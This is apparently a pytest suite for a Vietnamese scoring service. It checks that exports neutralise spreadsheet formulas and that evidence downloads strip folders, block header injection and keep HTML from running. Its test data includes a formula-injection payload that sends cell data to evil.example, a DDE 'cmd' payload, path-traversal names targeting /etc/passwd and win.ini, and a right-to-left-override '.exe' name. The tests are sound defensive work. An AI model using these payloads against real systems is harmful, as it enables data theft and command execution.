"""Files scoring hands out and takes in: exports a spreadsheet shows rather than runs, evidence a browser
saves rather than opens, names that cannot forge a header, uploads bounded by the service's setting."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from email.message import Message
from email.utils import collapse_rfc2231_value
from pathlib import Path

import pytest
from openpyxl import load_workbook

from registry.bootstrap import create_app as registry_app
from scoring.bootstrap import create_app as scoring_app
from thidua_shared.testing import ApiUnderTest, database_url_for, running_service, within

NAMES = {
    "eq": '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "full": "＝1+1",
    "plain": "Sở Nội vụ",
}


@pytest.fixture
async def scored(tmp_path: Path, kafka_bootstrap: str) -> AsyncIterator[tuple[ApiUnderTest, str]]:
    """Scoring with bloc k of units whose names a spreadsheet would run, each scored and ranked."""
    async with running_service(scoring_app, tmp_path / "scoring", kafka_bootstrap) as scoring, \
            running_service(registry_app, tmp_path / "registry", kafka_bootstrap, scoring.province) as registry:
        async with registry.client(await registry.token("admin")) as http:
            await http.post(f"{registry.base}/blocs", json={"bloc_id": "k", "name": "Khối", "kind": "khoi",
                                                            "decision_ref": "1"})
            for unit_id, name in NAMES.items():
                answer = await http.post(f"{registry.base}/units", json={"unit_id": unit_id, "name": name})
                assert answer.status_code == 201, answer.text
                await http.post(f"{registry.base}/blocs/k/members", json={
                    "unit_id": unit_id, "effective_on": "2022-01-01", "decision_ref": "2"})
        base = f"{scoring.base}/blocs/k/years/2025"
        secretary = await scoring.token("bloc_secretary", bloc_id="k")

        async def members_known() -> bool:
            async with scoring.client(secretary) as http:
                return len((await http.get(f"{base}/scoreboard")).json()["members"]) == len(NAMES)

        await within(60, members_known)
        async with scoring.client(secretary) as http:
            for points, unit_id in enumerate(NAMES):
                await http.post(f"{base}/scores", json={"unit_id": unit_id, "breakdown": {"C1": 10 + points}})
            await http.post(f"{base}/ranking")
        yield scoring, secretary


async def test_names_that_look_like_formulas_are_text_in_the_csv_and_xlsx_exports(
    scored: tuple[ApiUnderTest, str],
) -> None:
    scoring, secretary = scored
    async with scoring.client(secretary) as http:
        as_csv = await http.get(f"{scoring.base}/blocs/k/years/2025/export")
        as_xlsx = await http.get(f"{scoring.base}/blocs/k/years/2025/export", params={"format": "xlsx"})

    assert as_csv.status_code == 200, as_csv.text
    rows = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"), newline="")))
    names = {row[1]: row[2] for row in rows[1:]}
    for unit_id, name in NAMES.items():
        expected = name if unit_id == "plain" else "'" + name
        assert names[unit_id] == expected, f"{unit_id}: a spreadsheet would run {names[unit_id]!r}"
    assert [row[3] for row in rows[1:]] == ["15.0", "14.0", "13.0", "12.0", "11.0", "10.0"]

    assert as_xlsx.status_code == 200, as_xlsx.text
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    assert sheet is not None
    cells = {row[1].value: row[2] for row in sheet.iter_rows(min_row=2)}
    for unit_id, name in NAMES.items():
        cell = cells[unit_id]
        assert (cell.data_type, cell.value) == ("s", name), f"{unit_id}: the cell is a formula"
    assert all(cells[unit_id].quotePrefix for unit_id in NAMES if unit_id != "plain")


async def test_a_bloc_exports_under_a_file_name_every_browser_reads_and_an_id_of_another_form_is_refused(
    tmp_path: Path, kafka_bootstrap: str,
) -> None:
    async with running_service(scoring_app, tmp_path, kafka_bootstrap) as scoring, \
            scoring.client(await scoring.token("auditor"), language="en") as http:
        as_csv = await http.get(f"{scoring.base}/blocs/khoi-dang/years/2025/export")
        as_xlsx = await http.get(f"{scoring.base}/blocs/khoi-dang/years/2025/export", params={"format": "xlsx"})
        refused = [await http.get(f"{scoring.base}/blocs/{bloc_id}/years/2025/export")
                   for bloc_id in ("khối-đảng", "a:b[1]*")]

    for answer, suffix in ((as_csv, "csv"), (as_xlsx, "xlsx")):
        assert answer.status_code == 200, answer.text
        assert _saved_as(dict(answer.headers)) == ("attachment", f"{scoring.province}-khoi-dang-2025.{suffix}")
    for answer in refused:  # once a UnicodeEncodeError (500) in the header; ids have one form now
        assert answer.status_code == 422, answer.text
        assert "bloc_id" in answer.json()["message"]


async def _upload_and_fetch(scoring: ApiUnderTest, content: bytes, filename: str,
                            content_type: str = "text/plain") -> tuple[dict[str, str], bytes]:
    async with scoring.client(await scoring.token("unit_officer", unit_id="a")) as http:
        stored = await http.post(f"{scoring.base}/evidence", content=content,
                                 headers=[(b"Content-Type", content_type.encode()), (b"X-Filename", filename.encode())])
        assert stored.status_code == 201, stored.text
        fetched = await http.get(f"{scoring.base}/evidence/{stored.json()['ref']}")
    assert fetched.status_code == 200, fetched.text
    return dict(fetched.headers), fetched.content


def _saved_as(headers: dict[str, str]) -> tuple[str | None, str | None]:
    """How a browser reads ``Content-Disposition`` (RFC 6266): its type, and ``filename*`` before ``filename``."""
    header = Message()
    header["Content-Disposition"] = headers["content-disposition"]
    params = header.get_params(header="content-disposition") or []
    names = [value for name, value in params if name == "filename"]
    extended = [collapse_rfc2231_value(name) for name in names if isinstance(name, tuple)]
    plain = [name for name in names if isinstance(name, str)]
    assert len(plain) <= 1, params
    assert len(extended) <= 1, params
    chosen = extended or plain
    return str(params[0][0]) if params else None, chosen[0] if chosen else None


@pytest.mark.parametrize("backend", ["sqlite", "postgres"])
@pytest.mark.parametrize(("uploaded_as", "saved_as"), [
    ("../../etc/passwd", "passwd"),
    ("..\\..\\windows\\win.ini", "win.ini"),
    ("x\"; filename*=UTF-8''evil.html", "x\"; filename*=UTF-8''evil.html"),
    ("báo cáo\u202egpj.exe", "báo cáogpj.exe"),
    ("Báo cáo tổng kết 2025.pdf", "Báo cáo tổng kết 2025.pdf"),
    ("..", None),
])
async def test_an_evidence_file_downloads_under_its_own_name_without_folders_or_injected_parameters(
    tmp_path: Path, kafka_bootstrap: str, monkeypatch: pytest.MonkeyPatch, backend: str, uploaded_as: str,
    saved_as: str | None,
) -> None:
    with database_url_for(backend, tmp_path) as url:
        monkeypatch.setenv("THIDUA_DATABASE_URL", url)
        async with running_service(scoring_app, tmp_path, kafka_bootstrap) as scoring:
            headers, content = await _upload_and_fetch(scoring, b"report", uploaded_as)

    disposition, filename = _saved_as(headers)
    assert content == b"report"
    assert disposition == "attachment"
    assert filename == (saved_as if saved_as is not None else filename)
    assert filename
    assert "/" not in filename
    assert "\\" not in filename
    assert filename not in (".", "..")


async def test_html_evidence_is_downloaded_and_never_run_by_the_browser(
    tmp_path: Path, kafka_bootstrap: str,
) -> None:
    page = b"<html><script>fetch('/provinces')</script></html>"
    async with running_service(scoring_app, tmp_path, kafka_bootstrap) as scoring:
        headers, content = await _upload_and_fetch(scoring, page, "trang.html", "text/html")

    assert content == page
    assert _saved_as(headers) == ("attachment", "trang.html")
    assert headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in headers["content-security-policy"]
    assert "default-src 'none'" in headers["content-security-policy"]


async def test_an_evidence_upload_past_the_setting_is_refused_before_it_is_read_whole(
    tmp_path: Path, kafka_bootstrap: str, monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("THIDUA_EVIDENCE_MAX_BYTES", "100000")
    chunk = b"x" * 65536
    sent = 0

    async def two_hundred_megabytes() -> AsyncIterator[bytes]:
        nonlocal sent
        for _ in range(200 * 16):
            sent += len(chunk)
            yield chunk

    async with running_service(scoring_app, tmp_path, kafka_bootstrap) as scoring, \
            scoring.client(await scoring.token("admin"), language="en") as http:
        streamed = await http.post(f"{scoring.base}/evidence", content=two_hundred_megabytes())
        declared = await http.post(f"{scoring.base}/evidence", content=b"y" * 100001)
        within_limit = await http.post(f"{scoring.base}/evidence", content=b"y" * 100000)

    assert streamed.status_code == 413, streamed.text
    assert streamed.json()["details"]["limit_bytes"] == 100000
    assert "too large" in streamed.json()["message"]
    assert sent <= 100000 + 2 * len(chunk), f"the service read {sent} bytes of a refused upload"
    assert declared.status_code == 413
    assert within_limit.status_code == 201
